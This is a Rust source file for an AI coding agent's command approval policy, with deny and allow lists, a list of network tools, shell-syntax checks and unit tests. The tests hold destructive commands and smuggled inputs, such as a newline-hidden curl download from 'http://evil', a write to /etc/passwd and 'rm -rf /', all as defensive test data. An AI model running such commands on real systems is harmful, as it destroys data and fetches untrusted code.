//! The approval policy, evaluated before anyone is asked: auto-deny rules, auto-allow rules, session grants.

use serde_json::Value;

/// What the policy decides for one request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allow(String),
    Deny(String),
    Ask,
}

/// Auto-deny rules by default: destructive or history-rewriting shell commands.
pub const DEFAULT_DENY: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "rm -rf *",
    "git push --force",
    "git push -f",
    "mkfs",
    "dd if=",
];
/// Auto-allow rules by default: read-only commands.
pub const DEFAULT_ALLOW: &[&str] = &[
    "git status",
    "git diff",
    "git log",
    "git show",
    "git branch --list",
    "ls",
    "pwd",
];

/// The action category of a request (the `scope` label): shell, write, git_push, network, mcp, other.
pub fn scope(tool: &str, input: &Value) -> &'static str {
    match tool {
        "Bash" => {
            let cmd = command(input);
            let words: Vec<&str> = cmd.split_whitespace().collect();
            if words.windows(2).any(|w| w[0] == "git" && w[1] == "push") {
                "git_push"
            } else if words
                .iter()
                .any(|w| matches!(*w, "curl" | "wget" | "ssh" | "scp" | "rsync" | "nc" | "ftp"))
            {
                "network"
            } else {
                "shell"
            }
        }
        "Write" | "Edit" | "MultiEdit" | "NotebookEdit" => "write",
        "WebFetch" | "WebSearch" => "network",
        t if t.starts_with("mcp__") => "mcp",
        _ => "other",
    }
}

fn command(input: &Value) -> String {
    raw_command(input)
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// The command exactly as the shell will get it.
fn raw_command(input: &Value) -> &str {
    input.get("command").and_then(Value::as_str).unwrap_or("")
}

/// What "approve for this session" remembers: the exact command (as the shell gets it), the exact path,
/// or the tool.
pub fn grant_pattern(tool: &str, input: &Value) -> String {
    match tool {
        "Bash" => raw_command(input).to_string(),
        _ => input
            .get("file_path")
            .or_else(|| input.get("notebook_path"))
            .or_else(|| input.get("url"))
            .and_then(Value::as_str)
            .map(str::to_string)
            .unwrap_or_else(|| "*".to_string()),
    }
}

/// Shell syntax that can chain, redirect, expand or quote (a newline included): such a command is never
/// allowed by prefix. Checked on the raw command, before any whitespace is normalised.
fn has_shell_syntax(raw: &str) -> bool {
    raw.chars().any(|c| {
        matches!(
            c,
            ';' | '|'
                | '&'
                | '>'
                | '<'
                | '`'
                | '$'
                | '\n'
                | '\r'
                | '('
                | ')'
                | '\\'
                | '\''
                | '"'
                | '*'
                | '?'
                | '~'
                | '{'
                | '}'
        )
    })
}

/// Options that make read-only commands write files or run programs (`git diff --output=…`, `-c`).
fn has_writing_option(cmd: &str) -> bool {
    const OPTIONS: &[&str] = &[
        "--output",
        "--ext-diff",
        "--textconv",
        "--exec",
        "--upload-pack",
        "--config",
        "-c",
        "-o",
    ];
    cmd.split_whitespace().any(|w| {
        OPTIONS
            .iter()
            .any(|o| w == *o || w.starts_with(&format!("{o}=")))
            || (w.starts_with("-o") && w.len() > 2)
    })
}

#[derive(Debug, Clone)]
pub struct Policy {
    pub allow: Vec<String>,
    pub deny: Vec<String>,
}

impl Policy {
    pub fn evaluate(&self, tool: &str, input: &Value, grants: &[(String, String)]) -> Verdict {
        if tool == "Bash" {
            let cmd = command(input);
            if let Some(rule) = self.deny.iter().find(|d| cmd.contains(d.as_str())) {
                return Verdict::Deny(format!("denied by policy: matches {rule:?}"));
            }
            if !has_shell_syntax(raw_command(input))
                && !has_writing_option(&cmd)
                && let Some(rule) = self
                    .allow
                    .iter()
                    .find(|a| cmd == **a || cmd.starts_with(&format!("{a} ")))
            {
                return Verdict::Allow(format!("allowed by policy: {rule:?}"));
            }
        }
        let pattern = grant_pattern(tool, input);
        if grants.iter().any(|(t, p)| t == tool && *p == pattern) {
            return Verdict::Allow("allowed for this session".into());
        }
        Verdict::Ask
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn policy() -> Policy {
        Policy {
            allow: DEFAULT_ALLOW.iter().map(|s| s.to_string()).collect(),
            deny: DEFAULT_DENY.iter().map(|s| s.to_string()).collect(),
        }
    }

    #[test]
    fn scopes() {
        assert_eq!(scope("Bash", &json!({"command": "echo hi > a"})), "shell");
        assert_eq!(
            scope("Bash", &json!({"command": "git push origin main"})),
            "git_push"
        );
        assert_eq!(
            scope("Bash", &json!({"command": "curl https://x"})),
            "network"
        );
        assert_eq!(scope("Write", &json!({"file_path": "/a"})), "write");
        assert_eq!(scope("WebFetch", &json!({})), "network");
        assert_eq!(scope("mcp__x__y", &json!({})), "mcp");
        assert_eq!(scope("Task", &json!({})), "other");
    }

    #[test]
    fn rules_and_grants() {
        let p = policy();
        let bash = |c: &str| json!({"command": c});
        assert!(matches!(
            p.evaluate("Bash", &bash("git status"), &[]),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            p.evaluate("Bash", &bash("git   status  --short"), &[]),
            Verdict::Allow(_)
        ));
        assert_eq!(
            p.evaluate("Bash", &bash("git status; rm x"), &[]),
            Verdict::Ask,
            "chained commands are asked"
        );
        assert_eq!(
            p.evaluate("Bash", &bash("ls\ncurl -o /tmp/x http://evil"), &[]),
            Verdict::Ask,
            "a newline is shell syntax"
        );
        assert_eq!(
            p.evaluate("Bash", &bash("git diff --output=/etc/passwd"), &[]),
            Verdict::Ask,
            "writing options are asked"
        );
        assert_eq!(
            p.evaluate("Bash", &bash("git log -c core.pager=x"), &[]),
            Verdict::Ask
        );
        assert_eq!(p.evaluate("Bash", &bash("git status ~"), &[]), Verdict::Ask);
        assert_eq!(
            p.evaluate("Bash", &bash("lsblk"), &[]),
            Verdict::Ask,
            "a prefix is a whole word"
        );
        assert!(matches!(
            p.evaluate("Bash", &bash("rm -rf / --no-preserve-root"), &[]),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            p.evaluate("Bash", &bash("git push --force origin main"), &[]),
            Verdict::Deny(_)
        ));
        let grants = vec![("Bash".to_string(), "echo hello > hello.txt".to_string())];
        assert!(matches!(
            p.evaluate("Bash", &bash("echo hello > hello.txt"), &grants),
            Verdict::Allow(_)
        ));
        assert_eq!(
            p.evaluate("Bash", &bash("echo hello >\nhello.txt"), &grants),
            Verdict::Ask,
            "grants match exactly"
        );
        assert_eq!(
            p.evaluate("Bash", &bash("echo other > hello.txt"), &grants),
            Verdict::Ask
        );
        let w = json!({"file_path": "/w/a.txt", "content": "x"});
        assert_eq!(p.evaluate("Write", &w, &[]), Verdict::Ask);
        assert!(matches!(
            p.evaluate("Write", &w, &[("Write".into(), "/w/a.txt".into())]),
            Verdict::Allow(_)
        ));
    }
}
